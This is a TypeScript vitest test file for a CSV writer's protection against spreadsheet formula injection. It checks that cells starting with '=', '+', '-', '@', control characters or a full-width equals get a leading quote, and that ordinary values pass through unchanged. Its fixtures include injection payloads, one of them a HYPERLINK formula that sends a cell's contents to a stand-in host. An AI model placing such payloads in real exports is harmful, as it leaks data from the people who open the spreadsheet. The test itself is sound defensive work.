import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './write.ts';

describe('CSV cells a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("https://example.test/?"&A1,"x")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['＝1+1'],
  ])('%j is written as text with a leading quote', (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
    expect(parse(toCsv([[text]]))).toEqual([[`'${text}`]]);
  });

  it('leaves ordinary text, HXL hashtags and numbers (negative ones too) as they are', () => {
    expect(csvCell('poverty = debt')).toBe('poverty = debt');
    expect(csvCell('#meta+id')).toBe('#meta+id');
    expect(csvCell(-3)).toBe(-3);
    expect(csvCell(2)).toBe(2);
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(
      toCsv([
        ['#meta+id', '#description'],
        ['a, "b"', -1],
      ]),
    ).toBe('#meta+id,#description\n"a, ""b""",-1\n');
  });
});
